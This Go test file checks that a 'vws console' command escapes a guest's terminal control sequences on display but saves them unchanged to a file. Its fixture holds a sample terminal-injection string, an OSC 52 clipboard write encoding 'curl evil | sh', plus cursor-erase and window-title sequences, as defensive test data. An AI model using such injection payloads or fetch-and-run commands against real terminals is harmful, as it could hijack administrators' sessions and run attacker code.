package main

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"
)

// consoleOf answers Console calls with console from the offset asked for.
func consoleOf(t *testing.T, console string) *httptest.Server {
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		m := regexp.MustCompile(`<mgr:Offset>(-?\d+)</mgr:Offset>`).FindSubmatch(body)
		off, _ := strconv.Atoi(string(m[1]))
		off = max(0, min(off, len(console)))
		w.Header().Set("Content-Type", "text/xml")
		fmt.Fprintf(w, `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>`+
			`<mgr:ConsoleResponse xmlns:mgr="http://vws.dev/ns/2026/manager"><mgr:Text>%s</mgr:Text>`+
			`<mgr:Offset>%d</mgr:Offset><mgr:Size>%d</mgr:Size></mgr:ConsoleResponse></s:Body></s:Envelope>`,
			base64.StdEncoding.EncodeToString([]byte(console[off:])), off, len(console))
	}))
	t.Cleanup(s.Close)
	return s
}

// A guest's console is not its viewer's: on a terminal, vws console shows its text,
// line ends and colours, but not the escape sequences that would write the viewer's
// clipboard (OSC 52), retitle the window, move the cursor up and erase the lines
// above, nor bytes that are not UTF-8 — a site administrator inspecting a user's
// workspace would otherwise have their terminal driven by the guest. Saved to a file,
// the console is written as the guest wrote it.
func TestCLIConsoleOnATerminalShowsTheGuestsEscapesEscaped(t *testing.T) {
	const console = "\x1b[32m[  OK  ]\x1b[0m Started job\r\n" +
		"secret line\n\x1b[1A\x1b[2K" + // up one line, erase it
		"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07" + // the clipboard: curl evil | sh
		"\x1b]0;root@admin\x07" + // the window title
		"bad \xff\xfe bytes\u009b6n\n"
	s := consoleOf(t, console)

	pt, tty := openPTY(t)
	var stderr bytes.Buffer
	code := run(context.Background(), []string{"console", "k", "--host", s.URL}, tty, &stderr)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr.String())
	}
	pt.SetReadDeadline(time.Now().Add(2 * time.Second))
	buf := make([]byte, 4096)
	n, _ := pt.Read(buf)
	shown := string(buf[:n])
	t.Logf("the terminal got %q", shown)
	for _, c := range []string{"\x1b[1A", "\x1b[2K", "\x1b]", "\x07", "\xff", "\u009b"} {
		if strings.Contains(shown, c) {
			t.Errorf("the guest's %q reached the terminal", c)
		}
	}
	for _, want := range []string{"\x1b[32m[  OK  ]\x1b[0m Started job", "secret line", `\x1b[1A`, `\x1b]52;c;`, "bad \ufffd\ufffd bytes"} {
		if !strings.Contains(shown, want) {
			t.Errorf("the terminal does not show %q", want)
		}
	}

	var file bytes.Buffer
	if code := run(context.Background(), []string{"console", "k", "--host", s.URL}, &file, &stderr); code != 0 || file.String() != console {
		t.Fatalf("to a file, want the console as the guest wrote it, got exit %d and %q", code, file.String())
	}
}
